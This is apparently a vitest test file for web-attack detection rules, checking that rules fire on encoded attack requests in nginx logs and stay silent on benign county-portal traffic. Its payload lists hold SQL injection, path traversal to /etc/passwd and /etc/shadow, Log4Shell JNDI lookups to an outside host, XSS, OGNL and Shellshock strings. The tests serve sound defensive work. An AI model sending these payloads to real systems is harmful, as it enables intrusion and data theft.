import { loadRulesInForce, openJudges, OWN_RULES_DIRECTORY, type Rule } from '@qiaolou/detection-rules';
import { WholeEvent } from '@qiaolou/schema';
import { describe, expect, it } from 'vitest';
import { alertsOfLines } from './support/alerts-of-lines.ts';
import { ENCODERS, PATH_SPELLINGS } from './support/request-encoders.ts';

const receivedAt = Date.parse('2026-11-22T08:00:00.000Z');
const { rules } = await loadRulesInForce([OWN_RULES_DIRECTORY]);
const { events } = alertsOfLines({ rules, receivedAt });
const judges = openJudges({ rules: rules.filter(({ kind }) => kind === 'detection') });
const EVERY_STATUS = [200, 302, 404, 500];
/** 302 and 500: what the script did before it answered is done. */
const ANSWERED = [200, 206, 301, 302, 304, 500];
const REFUSED = [400, 401, 403, 404, 405, 410, 502, 503];

function ruleOf(file: string): Rule {
  const rule = rules.find((one) => one.file === `${file}/rule.yaml`);
  if (rule === undefined) throw new Error(file);
  return rule;
}

interface Request {
  readonly target: string;
  readonly status?: number;
  readonly method?: string;
  readonly agent?: string;
  readonly referrer?: string;
}

function line({ target, status = 200, method = 'GET', agent = 'Mozilla/5.0', referrer = '-' }: Request): string {
  return `<190>Nov 22 15:59:57 portal-web-01 nginx: 203.0.113.77 - - [22/Nov/2026:15:59:57 +0800] "${method} ${target} HTTP/1.1" ${String(status)} 1432 "${referrer}" "${agent}"`;
}

/** Files of the rules that fire on a request, without those that only count. */
function fired(request: Request): readonly string[] {
  const matches = events(line(request)).flatMap((event) =>
    judges.flatMap((judge) => judge.evaluate(new WholeEvent(event))),
  );
  const ids = new Set(matches.map(({ ruleId }) => ruleId));
  return rules
    .filter(({ id, level }) => ids.has(id) && level !== 'informational')
    .map(({ file }) => file.replace('/rule.yaml', ''));
}

/** The spellings of a target by which the rule does not fire. */
function missed(file: string, requests: readonly (Request & { readonly how: string })[]): readonly string[] {
  ruleOf(file);
  return requests
    .filter((request) => !fired(request).includes(file))
    .map(({ how, target, status }) => `${how} ${String(status)} ${target}`);
}

const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
  'web/sql-injection': [
    '1 union select 1,2,user()',
    "1' or '1'='1",
    "' or 1=1",
    '1 and 1=1',
    '1 and sleep(5)',
    "1' and extractvalue(1,concat(0x7e,version()))",
    '1;waitfor delay 0:0:5',
    "1'; drop table users",
    '-1 union all select null,null from information_schema.tables',
    "x' and updatexml(1,1,1)",
    '1) or pg_sleep(3)',
  ],
  'web/path-traversal': [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '/etc/shadow',
    'a/../../../b/secret.xml',
    '....//....//etc/hosts',
    '/proc/self/environ',
    '/etc/apache2/../passwd',
    '..//..//conf/server.xml',
  ],
  'web/log4shell': [
    '${jndi:ldap://203.0.113.80/a}',
    '${${lower:j}ndi:rmi://203.0.113.80/a}',
    '${${::-j}${::-n}${::-d}${::-i}:dns://a.b}',
    '${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://203.0.113.80/a}',
    '${jndi:${lower:l}${lower:d}ap://203.0.113.80/a}',
  ],
  'web/cross-site-scripting': [
    '<script>alert(1)</script>',
    '<svg/onload=alert(1)>',
    '<img src=x onerror=alert(1)>',
    '"><body onload=alert(1)>',
    'javascript:alert(document.domain)',
  ],
  'web/struts2-ognl': ['%{(#a=@java.lang.Runtime@getRuntime())}', '${#context[1]}', '%{#_memberAccess.x=1}'],
  'web/thinkphp-rce': ['/index/\\think\\app/invokefunction', '/Index/\\think\\Request/input'],
  'web/shellshock': ['() { :;}; /bin/id', '() { _; } >_[$($())] { id; }'],
};

/** Encodings that say another thing of these payloads: numbers in capitals are none, Log4j and OGNL look at case. */
function means(file: string, encoder: string): boolean {
  if (encoder === 'letters in changing case')
    return !['web/struts2-ognl', 'web/thinkphp-rce', 'web/log4shell'].includes(file);
  return !(file === 'web/struts2-ognl' && encoder === 'blanks as plus');
}

describe('an attack in a parameter, however it is spelt', () => {
  it.each(Object.entries(PAYLOADS).flatMap(([file, payloads]) => payloads.map((payload) => [file, payload] as const)))(
    '%s: %s',
    (file, payload) => {
      const requests = ENCODERS.filter(({ name }) => means(file, name)).flatMap(({ name, encode }) =>
        EVERY_STATUS.map((status) => ({ how: name, target: `/list?id=${encode(payload)}`, status })),
      );
      expect(missed(file, requests)).toEqual([]);
    },
  );

  it.each([
    '1/**/union/**/select/**/1,2',
    '1/*!50000union*//*!50000select*/1,2',
    '1 union(select(1),2)',
    '1%0aunion%0aall%0aselect%0a1,2',
    '1 union distinct select 1,2',
    "1'/**/or/**/'1'/**/like/**/'1",
    "1'||'1'='1",
    '1 or not 1=2',
    "1'--",
    '1 and(1=1)',
    "1'%09AND%091%3d1",
    'if(1=1,sleep(3),0)',
    '1/***/union/***/select/**a**/1,2',
    `1 union/*${'a'.repeat(300)}*/select 1,2`,
    `1 union%23${'a'.repeat(60)}%0aselect 1,2`,
    '1 union-- some words of a remark%0aselect 1,2',
    "1 or 'a'='a'",
    '1 or 1 like 1',
    '1 or true',
    '1 and ascii(substr((select user()),1,1))>64',
    '1 and (select count(*) from users)>0',
    '1 rlike (select (case when (1=1) then 1 else 0x28 end))',
    "1' having 1=1",
    '1 procedure analyse()',
  ])('SQL by its own means: %s', (payload) => {
    const target = `/list?id=${payload.replaceAll(' ', '%20').replaceAll('"', '%22')}`;
    expect(fired({ target })).toContain('web/sql-injection');
  });
});

describe('an attack in a header', () => {
  const log4shell = PAYLOADS['web/log4shell'] ?? [];

  it.each(log4shell)('Log4j: %s', (payload) => {
    for (const [field, value] of [
      ['agent', payload],
      ['referrer', payload],
      ['agent', `Mozilla ${encodeURIComponent(payload)}`],
    ] as const)
      expect(fired({ target: '/', [field]: value }), field).toContain('web/log4shell');
  });

  it.each([
    '() { :;}; /bin/bash -c id',
    '() { :; }; echo x',
    '(){:;};id',
    '%28%29%20%7b%20%3a%3b%7d%3b%20id',
    '() { ignored; }; /usr/bin/id',
  ])('Bash: %s', (payload) => {
    for (const field of ['agent', 'referrer'])
      expect(fired({ target: '/cgi-bin/a', [field]: payload })).toContain('web/shellshock');
  });

  it('a header that the log adds behind its own counts too', () => {
    const [event] = events(`${line({ target: '/' })} "() { :;}; id"`);
    if (event === undefined) throw new Error('no event');
    expect(judges.flatMap((judge) => judge.evaluate(new WholeEvent(event))).map(({ ruleId }) => ruleId)).toEqual([
      ruleOf('web/shellshock').id,
    ]);
  });
});

const SCRIPTS: readonly (readonly [string, string, string])[] = [
  ['web/webshell-access', 'GET', '/upload/2026/11/a.jsp'],
  ['web/webshell-access', 'POST', '/userfiles/image/x.php'],
  ['web/webshell-access', 'GET', '/Attachments/x.aspx'],
  ['web/webshell-known-name', 'GET', '/static/shell.jsp'],
  ['web/webshell-known-name', 'POST', '/cmd.php'],
  ['web/webshell-upload-put', 'PUT', '/a.jsp'],
  ['web/webshell-upload-put', 'MOVE', '/site/x.aspx'],
  ['web/weblogic-exploit', 'POST', '/wls-wsat/CoordinatorPortType'],
  ['web/oa-product-exploit', 'POST', '/weaver/bsh.servlet.BshServlet'],
  ['web/oa-product-exploit', 'POST', '/ispirit/im/upload.php'],
  ['web/java-deserialisation', 'POST', '/invoker/JMXInvokerServlet'],
  ['web/management-endpoint-exposed', 'GET', '/actuator/heapdump'],
  ['web/sensitive-file-exposed', 'GET', '/.git/config'],
  ['web/sensitive-file-exposed', 'GET', '/WEB-INF/web.xml'],
];
const ONLY_SHOWN: ReadonlySet<string> = new Set(['web/management-endpoint-exposed', 'web/sensitive-file-exposed']);
/** Path info runs a script; a file that is only read has none. */
const OF_SCRIPTS = /path info|NUL and another/;

function statuses(file: string): readonly number[] {
  if (ONLY_SHOWN.has(file)) return [200];
  return file === 'web/webshell-upload-put' ? [200, 201, 204, 302] : ANSWERED;
}

describe('a script or page, by every spelling of its path', () => {
  it.each(SCRIPTS)('%s: %s %s', (file, method, path) => {
    const spellings = PATH_SPELLINGS.filter(
      ({ name }) => !(ONLY_SHOWN.has(file) && OF_SCRIPTS.test(name) && name !== 'empty path info'),
    );
    const requests = spellings.flatMap(({ name, encode }) =>
      statuses(file).map((status) => ({ how: name, target: encode(path), status, method })),
    );
    expect(missed(file, requests)).toEqual([]);
  });

  it.each(SCRIPTS.filter(([file]) => file.startsWith('web/webshell') || ONLY_SHOWN.has(file)))(
    '%s is silent when the server refused: %s %s',
    (file, method, path) => {
      const loud = PATH_SPELLINGS.flatMap(({ encode }) =>
        REFUSED.map((status) => ({ target: encode(path), status, method })),
      ).filter((request) => fired(request).includes(file));
      expect(loud).toEqual([]);
    },
  );
});

/** What people of a county and their systems ask for on a day. */
const BENIGN: readonly Request[] = [
  ...[
    '/',
    '/index.html',
    '/art/2026/11/22/art_1234_567890.html',
    '/col/col1229/index.html?uid=4567&pageNum=3',
    '/search?q=%E7%A4%BE%E4%BF%9D%E5%8D%A1%20%E5%8A%9E%E7%90%86',
    '/search?q=student%20union%20select%20committee',
    '/search?q=it%27s+and+that%27s+all',
    '/search?q=O%27Brien',
    '/search?q=C%2B%2B+%26+C%23',
    '/search?q=100%25+%E6%BB%A1%E6%84%8F',
    '/search?q=a%3Cb+and+c%3Ed',
    '/search?q=select+a+school+from+the+list',
    '/search?q=drop+off+point%3B+table+reservation',
    '/upload/2026/11/form.docx',
    '/upload/2026/11/1b.jpg?x-oss-process=image/resize,w_300',
    '/images/banner.png',
    '/images/logo.jsp.png',
    '/attachment/%E9%80%9A%E7%9F%A5.pdf',
    '/ueditor/jsp/controller.jsp?action=config',
    '/ueditor/php/controller.php?action=uploadimage&encode=utf-8',
    '/js/jquery.min.js?v=1.12.4',
    '/js/app.js;jsessionid=0A1B2C3D?cb=function',
    '/portal/login.do;jsessionid=0A1B2C3D4E5F',
    '/api/v1/form/12?fields=id,name&sort=-created&filter[status]=open',
    '/api/v1/users?range=1-20&order=name+asc',
    '/api/report?from=2026-11-01&to=2026-11-22&type=1%2C2%2C3',
    '/download?file=../notice.pdf',
    '/download?file=2026%2F11%2Fnotice.pdf',
    '/map/tile/12/3345/1677.png',
    '/weixin/callback?code=061AbC&state=%7B%22a%22%3A1%7D',
    '/redirect?url=https%3A%2F%2Fwww.example.gov.cn%2Fa%3Fb%3D1%26c%3D2',
    '/sso?service=http%3A%2F%2Foa.example.gov.cn%2Flogin%3Ftarget%3D%252Fhome%252Findex',
    '/help/eggshell.jsp.html',
    '/news/union-select-committee',
    '/calc?expr=3%2B4%3D7',
    '/price?min=1&max=5&or=1',
    '/search?q=true+or+false',
    '/search?q=credit+union+%231+select+services',
    '/search?q=2026+and+%22open+data%22+policy',
    '/search?q=choose+(select)+your+village',
    '/search?q=1+or+2+children',
    '/page?title=%24%7Bname%7D',
    '/wiki/Cross-site_scripting',
    '/favicon.ico',
    '/.well-known/acme-challenge/abc',
  ].flatMap((target) => [200, 302, 404, 500].map((status) => ({ target, status }))),
  {
    target: '/',
    agent:
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
  },
  {
    target: '/',
    agent: 'Mozilla/5.0 (Linux; Android 14; wv) MicroMessenger/8.0.49(0x1800312C) WeChat/arm64 {"k":"v"}',
  },
  {
    target: '/',
    referrer: 'https://www.baidu.com/s?wd=%E5%8E%BF%E6%94%BF%E5%BA%9C%20union%20select%20committee&rsv_spt=1',
  },
  { target: '/api/v1/form/12', method: 'PUT' },
  { target: '/api/v1/form/12', method: 'DELETE', status: 204 },
];

describe('an ordinary day', () => {
  it('raises nothing', () => {
    const loud = BENIGN.flatMap((request) =>
      fired(request).map((file) => `${file} ${request.target} ${request.referrer ?? ''}`),
    );
    expect([...new Set(loud)]).toEqual([]);
  });
});
